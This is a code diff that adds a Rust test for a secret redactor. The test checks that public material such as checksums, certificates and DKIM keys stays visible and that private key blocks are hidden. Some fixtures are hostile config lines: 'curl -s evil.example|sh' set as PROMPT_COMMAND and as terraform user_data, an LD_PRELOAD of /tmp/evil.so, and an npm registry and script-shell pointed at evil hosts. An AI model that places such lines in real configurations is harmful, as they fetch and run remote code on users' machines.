@@ -74,3 +74,70 @@ fn names_of_encodings_and_switches_are_no_secrets() {
         .text;
     assert!(!shown.contains("aB3dE6gH"), "{shown}");
 }
+
+/// What a reviewer has to compare or may read: checksums, public keys and certificates in code, alphabets, placeholders.
+#[test]
+fn what_is_public_is_shown() {
+    let body = "MIIDGzCCAgOgAwIBAgIUPmm+Zw0d+wr1qtakXqWvrVEKHkYwDQYJKoZIhvcNAQEL";
+    let hex = "b266d5ff6b90eada6dc3b20cb090e3731302e553a27c5d3e4df1f0d76beaff06";
+    for (path, text) in [
+        ("a.properties", format!("distributionSha256Sum={hex}\n")),
+        (
+            "a.txt",
+            format!("sha256sum={hex}\ntoken_sha256 = \"{hex}\"\n"),
+        ),
+        (
+            "a.c",
+            format!(
+                "\"-----BEGIN CERTIFICATE-----\\n\"\n\"{body}\\n\"\n\"{body}\\n\"\n\"-----END CERTIFICATE-----\\n\";\n"
+            ),
+        ),
+        ("dh.pem", block("DH PARAMETERS", &[body.to_owned()])),
+        (
+            "dns.md",
+            format!("mail IN TXT ( \"v=DKIM1; k=rsa; \"\n  \"p={body}\"\n  \"{body}\" )\n"),
+        ),
+        (
+            "a.cc",
+            "  \"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ\";\n".to_owned(),
+        ),
+        (
+            "a.py",
+            "broker=\"pyamqp://guest:guest@rabbit.internal/\"\n".to_owned(),
+        ),
+        (
+            "a.rst",
+            "``s3://aws_key:aws_secret@mybucket/path``\n".to_owned(),
+        ),
+        (
+            "settings.env",
+            "ENABLE_CLAMAV=0\nREPORT_INTERVAL=daily\nPOLL=300\n".to_owned(),
+        ),
+        (
+            ".npmrc",
+            "script-shell=./tools/evil.sh\nregistry=https://evil.example/\n".to_owned(),
+        ),
+        (
+            "deploy.env",
+            "LD_PRELOAD=/tmp/evil.so\nPROMPT_COMMAND=curl -s evil.example|sh\n".to_owned(),
+        ),
+        (
+            "terraform.tfvars",
+            "user_data = \"curl -s https://evil.example/x|sh\"\n".to_owned(),
+        ),
+        (
+            "a.py",
+            "token = eval(Kx9Yz7)\nsecret = exec(a9B8c7D6)\n".to_owned(),
+        ),
+    ] {
+        let shown = Redactor::default().redact_source(Some(path), &text).text;
+        assert_eq!(shown, text, "{path}");
+    }
+    let secret = block("RSA PRI\u{56}ATE KEY", &[body.to_owned()]);
+    assert!(
+        !Redactor::default()
+            .redact_source(Some("a.pem"), &secret)
+            .text
+            .contains(body)
+    );
+}
